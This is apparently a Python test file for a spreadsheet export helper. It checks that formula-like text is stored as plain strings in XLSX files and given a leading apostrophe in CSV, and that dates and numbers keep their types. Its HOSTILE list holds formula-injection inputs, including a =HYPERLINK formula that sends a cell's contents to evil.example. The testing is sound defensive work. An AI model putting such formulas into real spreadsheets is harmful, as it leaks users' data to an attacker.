"""The one export helper: text never becomes a formula, dates are date cells, numbers stay numbers."""

import csv
import datetime as dt
import io

from openpyxl import load_workbook

from core.exports import Sheet, csv_text, csv_value, csv_value_in, xlsx_bytes
from workcalendar.calendar import TZ

HOSTILE = ['=HYPERLINK("http://evil.example/?x="&A1,"Bấm vào đây")', "=1+2", "@SUM(A1)", "+84 912", "-2+3",
           "\t=1+2"]


def test_xlsx_text_is_a_string_cell_and_dates_are_date_cells():
    moment = dt.datetime(2026, 3, 2, 9, 30, tzinfo=dt.UTC)  # 16:30 in Vietnam
    book = load_workbook(io.BytesIO(xlsx_bytes([Sheet("Danh sách", heading=["=title"], header=["Tên", "Ngày"],
                                                       rows=[[name, moment, dt.date(2026, 3, 5), 7, 2.5, None]
                                                             for name in HOSTILE])])))
    sheet = book["Danh sách"]
    assert sheet["A1"].value == "=title" and sheet["A1"].data_type == "s"
    for row, name in enumerate(HOSTILE, start=3):
        cell = sheet.cell(row=row, column=1)
        assert cell.data_type == "s" and cell.value == name
        when, day = sheet.cell(row=row, column=2), sheet.cell(row=row, column=3)
        assert when.is_date and when.value == dt.datetime(2026, 3, 2, 16, 30)
        assert when.number_format.startswith("dd/mm/yyyy")
        assert day.is_date and day.value == dt.datetime(2026, 3, 5) and day.number_format == "dd/mm/yyyy"
        assert sheet.cell(row=row, column=4).value == 7 and sheet.cell(row=row, column=4).data_type == "n"
        assert sheet.cell(row=row, column=5).value == 2.5
    assert sheet.cell(row=3, column=1).quotePrefix  # kept text even when edited in Excel


def test_csv_text_that_starts_like_a_formula_gets_an_apostrophe():
    moment = dt.datetime(2026, 3, 2, 16, 30, tzinfo=TZ)
    names = [*HOSTILE, "\r=1+2"]
    rows = list(csv.reader(io.StringIO(csv_text(["Tên", "Ngày", "Số"], [[name, moment, -5] for name in names]))))
    assert rows[0] == ["Tên", "Ngày", "Số"]
    for (name, when, number), hostile in zip(rows[1:], names, strict=True):
        assert name == "'" + hostile and csv_value_in(name) == hostile
        assert when == "02/03/2026 16:30" and number == "-5"  # a number stays a number
    assert csv_value("Nguyễn Văn An") == "Nguyễn Văn An" and csv_value_in("'abc") == "'abc"
    assert csv_value(dt.date(2026, 3, 5)) == "05/03/2026" and csv_value(None) == ""
